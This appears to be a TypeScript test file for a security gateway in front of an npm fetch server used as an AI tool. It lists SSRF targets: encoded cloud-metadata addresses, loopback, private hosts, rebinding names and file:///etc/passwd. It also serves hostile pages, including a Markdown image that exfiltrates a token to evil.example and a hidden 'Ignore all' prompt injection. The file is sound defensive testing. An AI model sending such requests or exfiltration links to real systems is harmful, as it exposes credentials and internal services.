/**
 * Addresses and pages at a fetch server from npm that has no check of its own. All its requests go through a proxy that
 * stands for the world outside, whose log is the witness. Where a redirect leads that the server follows by itself is not
 * seen by a gateway (docs/urls.md), so it is not here.
 */
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Home, type HttpGateway, makeHome, startHttpGateway, textOf } from './harness.ts'
import { ATTACKS, harmfulIn, TOKEN, TWINS, textsOf } from './hostileTexts.ts'
import { Calls, reached, watched } from './npmServers.ts'
import { type OutsideWorld, startOutsideWorld } from './outsideWorld.ts'

const ERAS = ['legacy', 'modern'] as const
const NAMES = fileURLToPath(new URL('rebindingNames.ts', import.meta.url))

/** Tool, address (ERA stands for the client's), rule. */
const REFUSED: readonly (readonly [tool: string, url: string, rule: string])[] = [
  ['fetch_html', 'http://169.254.169.254/latest/meta-data/', 'url/metadata'],
  ['fetch_json', 'http://2852039166/latest/meta-data/', 'url/metadata'],
  ['fetch_html', 'http://0xa9.0xfe.0xa9.0xfe/', 'url/metadata'],
  ['fetch_html', 'http://0251.254.0xa9fe/', 'url/'],
  ['fetch_html', 'http://[::ffff:169.254.169.254]/', 'url/metadata'],
  ['fetch_html', 'http://[::ffff:a9fe:a9fe]/', 'url/metadata'],
  ['fetch_html', 'http://[64:ff9b::a9fe:a9fe]/', 'url/'],
  ['fetch_html', 'http://[fd00:ec2::254]/', 'url/metadata'],
  ['fetch_html', 'http://metadata.google.internal/computeMetadata/v1/', 'url/metadata'],
  ['fetch_html', 'http://metadata.example/', 'url/metadata'],
  ['fetch_html', 'http://127.0.0.1:8080/admin', 'url/loopback'],
  ['fetch_html', 'http://2130706433/', 'url/loopback'],
  ['fetch_html', 'http://127.1/', 'url/loopback'],
  ['fetch_html', 'http://[::1]:8080/', 'url/loopback'],
  ['fetch_html', 'http://localhost:8080/', 'url/loopback'],
  ['fetch_html', 'http://10.0.0.7/', 'url/private'],
  ['fetch_html', 'http://here.example/', 'url/loopback'],
  ['fetch_html', 'http://both.example/', 'url/loopback'],
  ['fetch_html', 'http://mapped.example/', 'url/loopback'],
  // Public when the call comes, and this machine when it is about to be sent.
  ['fetch_html', 'http://ERA.flips.example/', 'url/loopback'],
  ['fetch_txt', 'http://localhost:8080/', 'url/host-not-allowed'],
  ['fetch_txt', 'http://127.0.0.1:8081/', 'url/port'],
  ['fetch_txt', 'http://public.example:8080/', 'url/host-not-allowed'],
  ['fetch_html', `http://public.example/?q=${TOKEN}`, 'secret/github'],
]

const at = (name: string) => `http://public.example/${name}`
const PAGES = Object.fromEntries([
  ...Object.entries(ATTACKS).map(([name, [payload]]) => [`/${name}`, payload]),
  ...Object.entries(TWINS).map(([name, text]) => [`/${name}`, text]),
  ['/leak', `<p>The key is ${TOKEN}.</p>`],
  [
    '/picture',
    '<p>Rain <img alt="map" src="https://evil.example/p.png?d=dG9rZW49YWJjZGVmZ2hpamtsbW5vcA"></p>',
  ],
  ['/unseen', `<p>Rain is likely.</p><div style="display: none">${ATTACKS.injected?.[0]}</div>`],
  ['/seen', '<h1>Rain</h1><p>It is <b>likely</b>: see <a href="https://docs.example/rain">the map</a>.</p>'],
])

let world: OutsideWorld
beforeAll(async () => {
  world = await startOutsideWorld(PAGES)
})
afterAll(() => world.close())

async function start(profile: string): Promise<{ home: Home; gateway: HttpGateway }> {
  const home = makeHome()
  const server = {
    command: watched(home, 'fetch', 'fetch'),
    env: world.env,
    // Its tools are pinned at first sight; nobody vouches for it.
    trust: 'partial',
    share: true,
    secrets: { toServer: { token: 'refuse' } },
    answers: { links: 'own-hosts', hosts: ['own.example'] },
    rate: 'unlimited',
    arguments: {
      fetch_txt: { url: { url: { allowPrivate: true, allowHosts: ['127.0.0.1'], ports: [8080] } } },
    },
  }
  const env = { ...home.env, NODE_OPTIONS: `--import ${NAMES}` }
  return { home, gateway: await startHttpGateway({ ...home, env }, { profile, servers: { fetch: server } }) }
}

describe('behind a gateway', () => {
  let home: Home
  let gateway: HttpGateway
  beforeAll(async () => {
    ;({ home, gateway } = await start('balanced'))
  })
  afterAll(async () => {
    await gateway.stop()
    home.remove()
  })

  describe.each(ERAS)('for a %s client', (era) => {
    let calls: Calls
    beforeAll(async () => {
      calls = await Calls.at(gateway.url, 'fetch', era)
    })
    const get = (tool: string, url: string) => calls.call(tool, { url })

    it.each([...REFUSED, ['fetch_html', 'file:///etc/passwd', 'url/scheme'] as const])(
      '%s %s is asked for by nobody (%s)',
      async (tool, address, rule) => {
        const before = [reached(home, 'fetch'), world.asked.length]
        const answer = await get(tool, address.replace('ERA', era))
        expect(textOf(answer)).toContain(`[rule ${rule}`)
        expect(JSON.stringify(answer)).not.toContain(TOKEN)
        expect([reached(home, 'fetch'), world.asked.length]).toEqual(before)
      },
    )

    it('a public page is fetched, and the one address of this machine that is declared', async () => {
      expect(textOf(await get('fetch_html', at('nothing?q=1')))).toBe('a page')
      expect(world.asked.at(-1)).toBe(at('nothing?q=1'))
      expect(textOf(await get('fetch_txt', 'http://127.0.0.1:8080/'))).toBe('a page')
      expect(world.asked.at(-1)).toBe('http://127.0.0.1:8080/')
    })

    it('a name that turns to this machine is not asked for any more', async () => {
      const url = `http://${era}.turns.example/`
      expect(textOf(await get('fetch_html', url))).toBe('a page')
      expect(textOf(await get('fetch_html', url))).toContain('[rule url/loopback]')
      expect(world.asked.filter((one) => one === url)).toHaveLength(1)
    })

    it.each(Object.keys(ATTACKS))('a page does no harm: %s', async (name) => {
      const answer = await get('fetch_html', at(name))
      expect(world.asked.at(-1)).toBe(at(name))
      expect(harmfulIn(answer, name)).toEqual([])
      expect(textOf(answer)).toMatch(/after|hxxps|withheld/)
    })

    it.each(Object.entries(TWINS))('and an honest one comes as it is: %s', async (name, text) => {
      expect(textOf(await get('fetch_html', at(name)))).toBe(text)
    })

    it.each(['ansi', 'c1', 'bidi'])('nor does a page in an error of the server: %s', async (name) => {
      const answer = await get('fetch_json', at(name))
      expect(answer.result?.isError).toBe(true)
      expect(harmfulIn(answer, name)).toEqual([])
      expect(textOf(answer)).toMatch(/^Unexpected token .* not valid JSON$/)
    })

    it('a picture that the server writes as Markdown carries nothing away', async () => {
      const answer = await get('fetch_markdown', at('picture'))
      expect(harmfulIn(answer, 'image')).toEqual([])
      expect(textOf(answer)).toMatch(/^Rain !\[map\]\(hxxps:/)
      expect(textOf(await get('fetch_markdown', at('seen')))).toBe(
        'Rain\n====\n\nIt is **likely**: see [the map](https://docs.example/rain).',
      )
    })

    it('orders that a page hides from people are not given to a model', async () => {
      const answer = await get('fetch_markdown', at('unseen'))
      expect(textOf(answer)).toContain('withheld')
      expect(textsOf(answer).join('\n')).not.toContain('Ignore all')
    })

    it('a secret in a page is not shown, and what stands around it is', async () => {
      expect(textOf(await get('fetch_markdown', at('leak')))).toBe('The key is [redacted:secret/github].')
    })
  })
})

describe('where a gateway only observes', () => {
  it('all of it arrives', async () => {
    const { home, gateway } = await start('observe')
    try {
      const calls = await Calls.at(gateway.url, 'fetch', 'modern')
      for (const [tool, address] of REFUSED) {
        const before = world.asked.length
        await calls.call(tool, { url: address })
        expect(world.asked.slice(before), address).toEqual([new URL(address).href])
      }
      expect(reached(home, 'fetch')).toBe(REFUSED.length)
      for (const name of Object.keys(ATTACKS)) {
        const answer = await calls.call('fetch_html', { url: at(name) })
        expect(textOf(answer), name).toBe(ATTACKS[name]?.[0])
      }
    } finally {
      await gateway.stop()
      home.remove()
    }
  })
})
